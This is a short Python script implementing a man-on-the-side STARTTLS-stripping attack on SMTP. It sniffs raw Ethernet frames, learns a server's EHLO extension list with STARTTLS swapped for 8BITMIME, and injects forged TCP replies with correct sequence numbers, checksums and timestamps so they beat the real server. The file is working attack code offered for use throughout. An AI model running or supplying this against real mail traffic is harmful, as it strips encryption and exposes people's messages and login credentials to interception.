"""A man on the side: he reads what passes and cannot hold it up, but answers
sooner than the server. He learns a server's list of extensions from the first
session, and answers the next EHLO with the same list, but for STARTTLS.
Arguments: the interface, the server's port."""

import socket
import struct
import sys

ETH, IPV4, TCP = 14, 20, 20  # bytes of headers without options
PSH_ACK = 0x18
AHEAD = 50  # of the server's clock, in its ticks: an older time is not believed (RFC 7323, section 5)


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def timestamps(options: bytes) -> bytes:
    """The option of RFC 7323 that answers the one given, or nothing."""
    at = options.find(b"\x08\x0a")
    if at < 0:
        return b""
    value, echo = options[at + 2 : at + 6], options[at + 6 : at + 10]
    return b"\x01\x01\x08\x0a" + struct.pack("!I", struct.unpack("!I", echo)[0] + AHEAD & 0xFFFFFFFF) + value


def answer(frame: bytes, payload: bytes) -> bytes:
    """A segment that the receiver of frame would send."""
    ip = frame[ETH : ETH + IPV4]
    tcp = frame[ETH + IPV4 :]
    sport, dport, seq, ack, offset = struct.unpack("!HHIIB", tcp[:13])
    header = offset >> 4 << 2
    options = timestamps(tcp[TCP:header])
    taken = struct.unpack("!H", ip[2:4])[0] - IPV4 - header
    reply = struct.pack("!HHIIBBHHH", dport, sport, ack, (seq + taken) & 0xFFFFFFFF, (TCP + len(options)) << 2, PSH_ACK, 500, 0, 0)
    reply += options + payload
    pseudo = ip[16:20] + ip[12:16] + struct.pack("!HH", socket.IPPROTO_TCP, len(reply))
    reply = reply[:16] + struct.pack("!H", checksum(pseudo + reply)) + reply[18:]
    head = struct.pack("!BBHHHBBH", 0x45, 0, IPV4 + len(reply), 0, 0x4000, 57, socket.IPPROTO_TCP, 0) + ip[16:20] + ip[12:16]
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return frame[6:12] + frame[:6] + b"\x08\x00" + head + reply


interface, port = sys.argv[1], int(sys.argv[2])
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
wire.bind((interface, 0))
print("ready")
learned = b""
while True:
    frame = wire.recv(65536)
    if frame[12:14] != b"\x08\x00" or frame[ETH + 9] != socket.IPPROTO_TCP:
        continue
    tcp = frame[ETH + IPV4 :]
    sport, dport = struct.unpack("!HH", tcp[:4])
    payload = tcp[tcp[12] >> 4 << 2 :]
    if sport == port and b"250-STARTTLS\r\n" in payload:
        # As long as it was, or the two sides would lose count.
        learned = payload.replace(b"250-STARTTLS\r\n", b"250-8BITMIME\r\n")
    elif dport == port and payload.startswith(b"EHLO ") and learned:
        wire.send(answer(frame, learned))
